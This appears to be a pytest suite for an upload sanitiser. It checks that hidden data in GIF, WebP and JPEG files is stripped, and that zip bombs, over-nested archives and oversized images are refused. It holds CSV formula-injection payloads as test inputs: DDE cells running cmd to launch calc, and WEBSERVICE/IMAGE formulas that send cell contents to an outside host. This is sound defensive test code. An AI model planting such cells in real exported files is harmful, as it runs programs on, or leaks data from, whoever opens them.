"""What hides in the gaps of a film, starts programs from a table, or never ends."""

from __future__ import annotations

import gzip
import io

import pytest
from PIL import Image

from hub.documents.attachments import archives, office, pictures_within
from hub.publishing import unpacking
from tests.helpers.attached import docx, film, photo, relation
from tests.helpers.planted import CANARY, cleaned, refused, word


def test_nothing_stands_in_the_gaps_of_a_film() -> None:
    gif = film("GIF")
    at = gif.index(b"NETSCAPE2.0") + 15
    more = b"\x0b" + CANARY.encode()[:11]
    assert cleaned("a.gif", gif[:at] + more + gif[at:]) == cleaned("a.gif", gif)
    webp = film("WEBP")
    at = webp.index(b"ANMF")
    size = int.from_bytes(webp[at + 4 : at + 8], "little")
    more = b"XMP " + (12).to_bytes(4, "little") + CANARY.encode() + b"!"
    longer = webp[: at + 8 + size] + more + webp[at + 8 + size :]
    longer = longer[: at + 4] + (size + len(more)).to_bytes(4, "little") + longer[at + 8 :]
    whole = b"RIFF" + (len(longer) - 8).to_bytes(4, "little") + longer[8:]
    assert CANARY.encode() not in cleaned("a.webp", whole)
    assert cleaned("a.webp", whole) == cleaned("a.webp", webp)


def test_a_table_starts_no_program() -> None:
    for cell in ("=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "\"=cmd|'/c calc'!A0\""):
        assert "start another program" in refused("a.csv", f"a,{cell},b\n".encode())
    for cell in (
        "@SUM(1+1)*cmd|' /C calc'!A0", "=2+5+cmd|'/c calc'!A0", "='cmd'|'/c calc'!A0",
        "=cmd|'/c calc'!#REF!", '=WEBSERVICE("https://e/"&A1)', '"=IMAGE(""https://e/""&A1)"',
    ):  # fmt: skip
        assert "start another program, or fetch" in refused("a.csv", f"a,{cell},b\n".encode())
    for fine in (
        "-5,+44 1952,@school,a|b!\n",
        "a,- call(s), image (2)\n",
        "=SUM(A1:A2),- Bring | and go!\n",
    ):
        assert cleaned("a.csv", fine.encode()) == fine.encode()


def lying() -> bytes:
    """A file whose list of parts says that a part is small, and it is not."""
    made = docx(parts={"word/a.xml": bytes(5_000_000)})
    size = (5_000_000).to_bytes(4, "little")
    return made.replace(size, (10).to_bytes(4, "little"))


TYPED = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")


def test_a_file_of_nothing_but_tags_is_told_so() -> None:
    many = docx(parts={"word/document.xml": "<a/>" * (office.MAX_TAGS + 1)})
    assert "6,000,000 tags" in refused("a.docx", many)


def test_pictures_that_are_drawn_anew_have_a_limit_together(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    out = io.BytesIO()
    Image.new("1", (1000, 1000)).save(out, "TIFF", compression="group4")
    names = [f"media/b{number}.tiff" for number in range(3)]
    shown = "".join(f'<a:blip r:embed="rId{9 + number}"/>' for number in range(3))
    made = word(
        f"<w:drawing>{shown}</w:drawing>",
        {f"word/{name}": out.getvalue() for name in names},
        *(relation(f"rId{9 + number}", "image", name) for number, name in enumerate(names)),
    )
    cleaned("a.docx", made)
    monkeypatch.setattr(pictures_within, "MAX_REDRAWN", 2_000_000)
    assert "more than 2 million pixels together" in refused("a.docx", made)


def test_a_segment_that_is_no_table_is_left_out_of_a_photograph() -> None:
    plain = photo(orientation=1)
    for marker in (0xC8, 0xD0, 0xD8, 0xDC):
        more = bytes((0xFF, marker, 0, len(CANARY) + 2)) + CANARY.encode()
        assert cleaned("a.jpg", plain[:2] + more + plain[2:]) == cleaned("a.jpg", plain)


NEVER_ENDING = {
    "bomb": lambda: docx(parts={"word/a.bin": bytes(archives.MAX_UNPACKED)}),
    "parts": lambda: docx(parts={f"word/{n}": b"" for n in range(archives.MAX_PARTS)}),
    "document type": lambda: docx(parts={"word/document.xml": TYPED}),
    "lying": lying,
}


@pytest.mark.parametrize("what", NEVER_ENDING)
def test_the_gate_does_not_read_what_would_never_end(what: str) -> None:
    content = NEVER_ENDING[what]()
    with pytest.raises(unpacking.UnreadableError):
        unpacking.texts(content, ".docx")
    refused("a.docx", content)


def test_the_gate_reads_files_within_files_only_so_deep() -> None:
    twice = docx(parts={"a.docx": docx(words="Deep within")})
    assert "Deep within" in unpacking.texts(twice, ".docx")
    with pytest.raises(unpacking.UnreadableError):
        unpacking.texts(docx(parts={"a.docx": docx(parts={"b.docx": twice})}), ".docx")


def test_the_gate_does_not_open_a_bomb() -> None:
    with pytest.raises(unpacking.UnreadableError):
        unpacking.texts(gzip.compress(bytes(unpacking.MAX_UNPACKED + 1), 1), ".xml.gz")
